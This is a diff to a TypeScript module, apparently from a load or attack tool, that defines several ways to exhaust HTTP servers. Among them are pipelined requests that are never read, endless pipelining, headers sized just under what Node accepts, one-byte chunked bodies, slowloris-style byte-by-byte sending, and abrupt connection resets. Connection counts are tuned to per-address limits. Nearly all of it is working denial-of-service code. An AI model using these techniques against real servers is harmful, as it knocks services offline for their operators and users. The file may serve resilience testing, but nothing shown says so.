@@ -1,7 +1,7 @@
 /** The ways in which a request can be made to cost. Each goes on until the attack is over. */
 import { setTimeout as sleep } from 'node:timers/promises'
 import { type Attack, onEach, open, send } from './connection.ts'
-import { bodyStart, headOf, type Target } from './targets.ts'
+import { bodyStart, headOf, type Target, wholeRequest } from './targets.ts'
 
 export interface Way {
   name: string
@@ -13,24 +13,41 @@ export interface Way {
 const KILOBYTE = 1024
 const PIECE = Buffer.alloc(64 * KILOBYTE, 'a')
 const CHUNK = Buffer.concat([Buffer.from(`${PIECE.length.toString(16)}\r\n`), PIECE, Buffer.from('\r\n')])
-const TINY_CHUNKS = Buffer.from('1\r\na\r\n'.repeat(10_000))
+const CRUMBS = Buffer.from('1\r\na\r\n'.repeat(10_000))
 const CHUNKED = 'Transfer-Encoding: chunked\r\n\r\n'
 
-/** Just below what a server reads of headers. */
-const LARGE_HEADERS = `X-Filler: ${'a'.repeat(1000)}\r\n`.repeat(14)
+/** Just below what a server reads of headers, and as many as Node takes. */
+const LARGE_HEADERS = `${'a:b\r\n'.repeat(1900)}X-Filler: ${'a'.repeat(4000)}\r\n`
+
+/** As many as an address may have, but for the one that others need. */
+const CONNECTIONS = 120
+
+/** As many requests as may wait on a connection. */
+const PIPELINED = 30
 
 export const WAYS: Way[] = [
   {
     name: 'pipelined, never read',
     isBulk: false,
     run: (attack, target) =>
-      onEach(attack, 16, async () => {
-        const socket = await open(attack, { reads: false })
+      onEach(attack, CONNECTIONS, async () => {
+        const socket = await open(attack, target, { reads: false })
         if (socket === null) return
-        const batch = `${headOf(target)}Content-Length: 0\r\n\r\n`.repeat(100)
-        while (!attack.isOver() && (await send(attack, socket, batch))) await sleep(20)
+        await send(attack, socket, Buffer.concat(Array(PIPELINED).fill(wholeRequest(target))))
         // What was asked for is held as long as the attack goes on.
         while (!attack.isOver() && !socket.destroyed) await sleep(50)
+        socket.destroy()
+      }),
+  },
+  {
+    name: 'pipelined without end',
+    isBulk: false,
+    run: (attack, target) =>
+      onEach(attack, 16, async () => {
+        const socket = await open(attack, target, { reads: true })
+        if (socket === null) return
+        const batch = Buffer.concat(Array(200).fill(wholeRequest(target)))
+        while (!attack.isOver() && (await send(attack, socket, batch))) await sleep(20)
         socket.destroy()
       }),
   },
@@ -39,9 +56,9 @@ export const WAYS: Way[] = [
     isBulk: false,
     run: (attack, target) =>
       onEach(attack, 500, async () => {
-        const socket = await open(attack, { reads: true })
+        const socket = await open(attack, target, { reads: true })
         if (socket === null) return
-        await send(attack, socket, `${headOf(target, LARGE_HEADERS)}Content-Length: 0\r\n\r\n`)
+        await send(attack, socket, wholeRequest(target, LARGE_HEADERS))
         while (!attack.isOver() && !socket.destroyed) await sleep(50)
         socket.destroy()
       }),
@@ -54,22 +71,20 @@ export const WAYS: Way[] = [
   {
     name: 'chunks of one byte',
     isBulk: true,
-    run: (attack, target) => onEach(attack, 8, () => pour(attack, target, TINY_CHUNKS)),
+    run: (attack, target) => onEach(attack, 8, () => pour(attack, target, CRUMBS)),
   },
   {
     name: 'byte by byte',
     isBulk: false,
     run: (attack, target) =>
-      onEach(attack, 200, async () => {
-        const socket = await open(attack, { reads: true })
+      onEach(attack, CONNECTIONS, async () => {
+        const socket = await open(attack, target, { reads: true })
         if (socket === null) return
-        const start = bodyStart(target)
-        const whole = `${headOf(target)}Content-Length: 100000\r\n\r\n${start}${'a'.repeat(1000)}`
         // The head at once: it is the body that may be slow.
-        const head = whole.indexOf(start)
-        let goesOn = await send(attack, socket, whole.slice(0, head))
-        for (let at = head; at < whole.length && goesOn && !attack.isOver(); at++) {
-          goesOn = await send(attack, socket, whole.slice(at, at + 1))
+        let goesOn = await send(attack, socket, `${headOf(target)}Content-Length: 100000\r\n\r\n`)
+        for (const byte of `${bodyStart(target)}${'a'.repeat(1000)}`) {
+          goesOn = goesOn && !attack.isOver() && (await send(attack, socket, byte))
+          if (!goesOn) break
           await sleep(50)
         }
         socket.destroy()
@@ -80,16 +95,17 @@ export const WAYS: Way[] = [
     isBulk: false,
     run: (attack, target) =>
       onEach(attack, 100, async () => {
-        const socket = await open(attack, { reads: false })
+        const socket = await open(attack, target, { reads: false })
         if (socket === null) return
         await send(attack, socket, `${headOf(target)}Content-Length: 100000\r\n\r\n${bodyStart(target)}`)
-        socket.resetAndDestroy()
+        if (target.isAtDoor) socket.destroy()
+        else socket.resetAndDestroy()
       }),
   },
 ]
 
 async function pour(attack: Attack, target: Target, piece: Uint8Array): Promise<void> {
-  const socket = await open(attack, { reads: true })
+  const socket = await open(attack, target, { reads: true })
   if (socket === null) return
   const start = bodyStart(target)
   const head = `${headOf(target)}${CHUNKED}${start.length.toString(16)}\r\n${start}\r\n`
